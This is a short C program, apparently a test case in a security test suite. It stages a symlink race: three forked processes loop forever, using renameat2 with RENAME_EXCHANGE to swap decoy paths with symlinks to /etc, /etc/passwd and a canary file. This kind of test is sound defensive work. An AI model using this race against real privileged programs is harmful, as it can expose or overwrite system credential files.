#include "attack.h"

int main(void)
{
	START;
	mkdir("out", 0755);
	for (int i = 0; i < 20; i++) {
		char p[64];
		snprintf(p, sizeof p, "out/passwd%d", i);
		close(open(p, O_WRONLY | O_CREAT, 0644));
	}
	mkdir("etc", 0755);
	close(open("etc/passwd", O_WRONLY | O_CREAT, 0644));
	close(open("etc/hosts", O_WRONLY | O_CREAT, 0644));
	close(open("canary.txt", O_WRONLY | O_CREAT, 0644));
	symlink("/etc", "etc-link");
	symlink("@CANARY_FILE@", "canary-link");
	symlink("/etc/passwd", "out/swap");
	for (int i = 0; i < 3; i++) {
		if (fork())
			continue;
		setsid();
		for (;;) {
			syscall(SYS_renameat2, AT_FDCWD, "etc", AT_FDCWD, "etc-link", 2);
			syscall(SYS_renameat2, AT_FDCWD, "canary.txt", AT_FDCWD, "canary-link", 2);
			syscall(SYS_renameat2, AT_FDCWD, "out/passwd3", AT_FDCWD, "out/swap", 2);
		}
	}
	usleep(200000);
	END;
	return 0;
}
